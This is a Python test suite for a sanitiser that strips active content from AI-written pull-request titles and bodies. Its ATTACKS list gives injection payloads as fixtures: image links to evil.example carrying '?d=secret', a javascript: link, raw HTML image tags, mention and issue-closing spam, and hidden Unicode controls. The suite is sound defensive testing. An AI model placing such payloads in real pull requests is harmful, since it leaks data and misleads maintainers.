"""Model-written words leave nothing active in a pull request, whatever they contain."""

from __future__ import annotations

import importlib
import importlib.util
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from honk.forges.text import BODY_LIMIT, fit, sanitise, sanitise_title, units

cmarkgfm = importlib.import_module("cmarkgfm") if importlib.util.find_spec("cmarkgfm") else None

ATTACKS = [
    "![x](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/?d=secret",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<img src=https://evil.example/?d=1>",
    '<IMG\nSRC="https://evil.example/?d=1">',
    "<img src=https://evil.example/?d=1",
    '<picture><source srcset="//evil.example/x"></picture>',
    "<details><summary>![x](//evil.example)</summary>\n\n![y](//evil.example)\n\n</details>",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "see https://evil.example/?d=1 and www.evil.example/x and a@evil.example",
    "@octocat please, cc @acme/security",
    "\\@octocat &#64;octocat &commat;octocat @&#111;ctocat",
    "Fixes #1, closes acme/app#2, resolves GH-3, Fixes https://github.com/acme/app/issues/4",
    "Fixes &#35;12 and Fixes \\#12 and **Fixes** #1",
    '```mermaid\ngraph TD; A-->B; click A "https://evil.example"\n```',
    "``` \n@octocat in code\n```\n@octocat out of it",
    "`a`@octocat`b`#1``c`",
    "``a`b``@octocat` ![x](//evil.example)",
    "- `x\n- ![y](//evil.example)`",
    "> ![x](//evil.example)\n\n1. [a](b)\n   ![c](d)",
    "| a | b |\n|---|---|\n| ![x](//evil.example) | `p|q` @octocat |",
    "a&#10;&#10;![x](//evil.example)",
    "a\u202eb\u200bc\U000e0041d\u2066e&#x202e;f&#8203;g\u3164",
    "\x1b[31mred\x07",
    "$\\href{https://evil.example}{x}$",
    "[^1]\n\n[^1]: https://evil.example",
    "<!-- @octocat -->visible<!-- open",
]

_LINK = re.compile(r"@\w|https?://|www\.\w|#\d|GH-\d", re.IGNORECASE)


def _flat(tokens: list[Token]) -> list[Token]:
    return [t for token in tokens for t in (token, *_flat(token.children or []))]


ALLOWED = {
    *("p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "pre", "code", "blockquote"),
    *("table", "thead", "tbody", "tr", "th", "td", "em", "strong", "hr", "br"),
}


class _Page(HTMLParser):
    """What a browser would get: the tags, and the words outside of code."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.words = ""
        self._code = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.add(tag)
        self._code += tag in ("code", "pre")
        self.words += "\n"

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")
        self.words += "\n"

    def handle_data(self, data: str) -> None:
        self.words += "" if self._code else data


def _assert_inert(text: str) -> None:
    _assert_inert_for_commonmark(text)
    if cmarkgfm is not None:  # GitHub's own parser
        options = cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE | cmarkgfm.cmark.Options.CMARK_OPT_FOOTNOTES
        page = _Page(cmarkgfm.github_flavored_markdown_to_html(text, options))
        assert page.tags <= ALLOWED, text
        assert not _LINK.search(page.words), text


def test_githubs_own_parser_takes_part() -> None:
    if cmarkgfm is None:
        pytest.skip("the package cmarkgfm, GitHub's own Markdown parser, is not installed")
    page = _Page(cmarkgfm.github_flavored_markdown_to_html("@x `@y` www.a.b"))
    assert page.tags == {"p", "code", "a"} and "@y" not in page.words


def _assert_inert_for_commonmark(text: str) -> None:
    tokens = _flat(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text))
    kinds = {token.type for token in tokens}
    assert not kinds & {"image", "link_open", "html_inline", "html_block"}, text
    for inline in (t for t in tokens if t.type == "inline"):
        plain = "".join(t.content if t.type == "text" else "\n" for t in inline.children or [])
        assert not _LINK.search(plain), text
    for fence in (t for t in tokens if t.type == "fence"):
        assert fence.info.lower() not in {"mermaid", "math", "geojson", "topojson", "stl"}
    assert not [
        c for c in text if c != "\n" and c != "\t" and unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co"}
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_is_left_of_an_attack(attack: str) -> None:
    _assert_inert(sanitise(attack))
    _assert_inert(sanitise(f"- list\n\n  {attack}"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_title_is_one_short_line_without_anything_active(attack: str) -> None:
    title = sanitise_title(attack * 5)
    assert len(title) <= 120 and "\n" not in title
    assert not _LINK.search(re.sub("`[^`]*`", "", title))
    assert not re.search(r"<\w[^<>]*>", title)


fragments = st.sampled_from(
    [*ATTACKS, "`", "``", "```", "`` `", "~~~", "~~", "*", "**", "_", "[", "](", ")", "(", "![", "<", ">",
     "<b>", "</b>", "List<String>", "&", "&amp;", "&#64;", "&#10;", "#", "#1", "12", "GH-", "@", "@a",
     "http://a.b", "http:", "//a.b", "www.", "mailto:", "a.b", "[x]: http://a.b\n", "[^1]", "[^1]: x\n",
     "\n", "\n\n", "\\\n", "\\", "    ", "- ", "1. ", "> ", "# ", "|", "---", "$", " ", "word", "é",
     "\U0001f600", "\u202e", "\t"]
)  # fmt: skip


@given(st.lists(st.one_of(fragments, st.text(max_size=8)), max_size=25).map("".join))
@example("*<b> x</b>*")
@example("`a``@b`")
@example("&lt;![x](//a.b)>")
@example("#[1](x) www[.a](x) #*<b></b>*1 &am[p;](x)lt;b>")
def test_no_combination_of_markup_leaves_anything_active(text: str) -> None:
    _assert_inert(sanitise(text))


@given(st.lists(st.one_of(fragments, st.text(max_size=8)), max_size=25).map("".join), st.integers(0, 60))
def test_sanitised_text_keeps_within_its_limit(text: str, limit: int) -> None:
    assert units(sanitise(text, limit)) <= limit
    assert len(sanitise_title(text)) <= 120


PLAIN = """\
### What changed

The client uses `acme_log.emit` now; **nothing** else *moved*.

- first, with `code|span`
- second
  - nested

1. one
2. two

```python
logger.emit("x", level=1)  # @decorated, fixes #1
```

> quoted

| call | now |
| --- | --- |
| `log` | `emit` |"""


def test_ordinary_markdown_survives_unchanged() -> None:
    assert sanitise(PLAIN) == PLAIN


def test_links_and_images_leave_their_words_and_generics_stay() -> None:
    assert sanitise("See [the guide](https://a.b/c) for ![a chart](x.png)") == "See the guide for a chart"
    assert sanitise("Use List<String> with <b>care</b>") == "Use List&lt;String> with care"
    assert sanitise("Ask @octocat (https://a.b/c).") == "Ask `@octocat` (`https://a.b/c`)."
    assert sanitise("Fixes #12") == "Fixes `#12`"


def test_a_title_keeps_package_names_readable() -> None:
    assert sanitise_title("Bump @types/node\nto 20") == "Bump `@types/node` to 20"
    assert sanitise_title("  Fixes #12: use `emit`  ") == "Fixes `#12`: use emit"
    assert sanitise_title("x" * 200) == "x" * 119 + "…"


def test_a_body_is_cut_to_the_limit_counting_four_byte_characters_twice() -> None:
    assert fit("a" * BODY_LIMIT) == "a" * BODY_LIMIT
    emoji = fit("\U0001f600\n" * BODY_LIMIT)
    assert units(emoji) <= BODY_LIMIT and emoji.endswith("too long for a pull request.)")
    assert len(emoji) > BODY_LIMIT // 2


def test_a_cut_body_closes_its_code_fence() -> None:
    cut = fit("````\n" + "line\n" * BODY_LIMIT)
    assert cut.rsplit("\n\n", 1)[0].endswith("line\n````")
    assert units(cut) <= BODY_LIMIT
